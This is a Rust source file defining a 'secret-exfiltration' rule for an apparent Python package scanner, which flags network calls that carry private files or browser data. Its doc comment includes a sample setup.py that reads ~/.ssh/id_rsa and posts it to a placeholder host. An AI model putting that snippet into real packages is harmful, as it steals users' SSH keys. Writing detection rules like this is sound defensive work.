//! ## What it detects
//!
//! Credentials, keys, private files, browser or wallet data that are sent over the network.
//!
//! ## Why it is bad
//!
//! This is theft. No package needs to send what lies in `~/.ssh` or a browser profile.
//!
//! ## Innocent lookalikes
//!
//! Clients of an API read a token from the environment and send it to that API; a token from an environment variable alone does not count.
//!
//! ## Bad
//!
//! ```python setup.py
//! import requests, os
//! key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
//! requests.post('http://x.example.invalid', data=key)
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import requests, os
//! requests.post('http://x.example.invalid', headers={'Authorization': os.environ['MY_API_KEY']})
//! ```

use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("secret-exfiltration"),
    title: "sends secrets out",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 2.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let carried = match call.api {
            Some(Api::NetworkSend) => call.taint(),
            // In the address itself; a session's headers are how clients sign in.
            Some(Api::NetworkFetch) => call.args.first().map_or(Taint::NONE, |address| address.taint),
            _ => continue,
        };
        let file = carried.has(Taint::SECRET) && carried.has(Taint::FILE) || carried.has(Taint::BROWSER);
        if file && !call.callee.starts_with("socket.socket().recv") {
            hits.call(unit, call, format!("{} of private files or browser data", call.callee));
        }
    }
}
